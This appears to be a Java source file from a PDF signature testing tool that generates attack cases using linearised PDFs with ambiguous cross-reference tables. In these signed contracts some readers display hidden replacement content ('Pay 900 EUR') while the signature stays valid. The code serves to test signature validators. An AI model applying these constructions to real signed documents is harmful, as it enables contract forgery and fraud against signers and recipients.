// SPDX-License-Identifier: Apache-2.0
package org.penseal.pdf.attack;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.penseal.pdf.Placement;

/**
 * Files that call themselves linearised: as long as the length is right, some readers begin at the
 * section behind the first object, wherever the end of the file leads.
 */
final class LinearisedAttacks {
  private static final String EVIL =
      PdfUpdate.streamBody("", "BT /Helv 14 Tf 60 700 Td (Pay 900 EUR) Tj ET");

  private final CaseList cases = new CaseList(true);
  private final Signers signers;

  private LinearisedAttacks(Signers signers) {
    this.signers = signers;
  }

  static List<Case> of(Signers signers) throws Exception {
    LinearisedAttacks made = new LinearisedAttacks(signers);
    made.cases.family("linearised");
    made.whole();
    made.grown();
    made.grownBefore();
    return made.cases.all();
  }

  private byte[] signed(long length) throws Exception {
    return signers.sign(file(length), "rsa", new Placement.Field("second"), 0);
  }

  // The length of the signed file is known before.
  private void whole() throws Exception {
    byte[] signed = signed(signed(0).length);
    cases.add("length-of-signed", "cross-reference-ambiguous", signed);
  }

  // A harmless update brings it to the length that was promised.
  private void grown() throws Exception {
    int length = signed(0).length + 2000;
    byte[] signed = signed(length);
    int missing = length - information(signed, "").length;
    cases.doubt("object-twice");
    cases.add(
        "length-of-update",
        "cross-reference-ambiguous",
        signed,
        information(signed, "x".repeat(missing)));
  }

  // The same before the file grows once more, so that its own length is none that was promised.
  private void grownBefore() throws Exception {
    byte[] once = signed(0);
    int length = signers.sign(once, "rsa", new Placement.Invisible(), 0).length;
    byte[] signed = signed(length);
    byte[] twice = signers.sign(signed, "rsa", new Placement.Invisible(), 0);
    if (twice.length != length) {
      throw new IllegalStateException(twice.length + " in place of " + length);
    }
    cases.doubt("object-twice");
    cases.add("length-of-second", "cross-reference-ambiguous", signed, information(twice, "x"));
  }

  private static byte[] information(byte[] signed, String producer) {
    return new PdfUpdate(signed).put(8, "<</Producer(" + producer + ")>>").bytes();
  }

  /** The contract with a first section of its own, in which other words stand. */
  private static byte[] file(long length) throws IOException {
    List<String> objects = new ArrayList<>(Contract.objects(""));
    objects.add("<</Linearized 1/L %010d/H[20 20]/O 3/E 400/N 2/T 400>>".formatted(length));
    int linear = objects.size();
    StringBuilder out = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
    int[] at = new int[linear + 1];
    at[linear] = out.length();
    out.append(linear).append(" 0 obj\n").append(objects.getLast()).append("\nendobj\n");
    int first = out.length();
    out.append(table(at, -1, first)); // its room
    for (int number = 1; number < linear; number++) {
      at[number] = out.length();
      out.append(number).append(" 0 obj\n").append(objects.get(number - 1)).append("\nendobj\n");
    }
    int good = at[Contract.CONTENT];
    at[Contract.CONTENT] = out.length();
    out.append(Contract.CONTENT).append(" 0 obj\n").append(EVIL).append("\nendobj\n");
    String begin = table(at, -1, first);
    out.replace(first, first + begin.length(), begin);
    at[Contract.CONTENT] = good;
    int last = out.length();
    out.append(table(at, first, last));
    return out.toString().getBytes(StandardCharsets.ISO_8859_1);
  }

  private static String table(int[] at, int previous, int start) {
    StringBuilder out = new StringBuilder("xref\n0 " + at.length + "\n0000000000 65535 f \n");
    for (int number = 1; number < at.length; number++) {
      out.append("%010d 00000 n \n".formatted(at[number]));
    }
    out.append("trailer\n<</Size ").append(at.length).append("/Root 1 0 R/Info 8 0 R");
    out.append(previous < 0 ? "" : "/Prev " + previous).append(">>\n");
    out.append("startxref\n").append(start).append("\n%%EOF\n");
    return out.toString();
  }
}
